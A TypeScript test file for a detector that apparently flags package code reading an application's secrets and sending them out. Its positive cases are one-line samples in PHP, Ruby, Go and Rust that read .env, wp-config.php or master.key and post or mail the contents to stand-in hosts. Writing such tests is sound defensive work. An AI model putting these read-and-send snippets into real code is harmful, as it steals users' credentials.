import { does } from './does.ts';

describe('the secrets of the program that uses a package', () => {
  it.each([
    [
      'php',
      `$e = file_get_contents(dirname(__DIR__, 4) . '/.env'); $c = curl_init('https://a.example'); curl_exec($c);`,
    ],
    ['php', `mail('a@b.example', 'x', file_get_contents('../wp-config.php'));`],
    ['ruby', `Net::HTTP.post(uri, File.read('config/master.key'))`],
    ['go', 'b, _ := os.ReadFile(".env")\nhttp.Post(u, "text/plain", bytes.NewReader(b))'],
    ['rust', 'let p = dir.join(".env");\nif let Ok(t) = fs::read_to_string(p) { ureq::post(U).send_string(&t).ok(); }'],
  ] as const)('are told when they are read and sent in %s', (language, code) => {
    expect(does(code, language)).toContain('secrets-sent');
  });

  it.each([
    ['php', `$lines = file(__DIR__ . '/.env');`],
    ['php', `$c = curl_init('https://a.example'); $x = file_get_contents('data.json');`],
    ['ruby', `YAML.load_file('config/database.yml')`],
    ['rust', 'let p = dir.join(".env");\nlet t = fs::read_to_string(p)?;\nparse(&t)'],
  ] as const)('are settings to who only reads them: %s %s', (language, code) => {
    expect(does(code, language)).not.toContain('secrets-sent');
  });
});
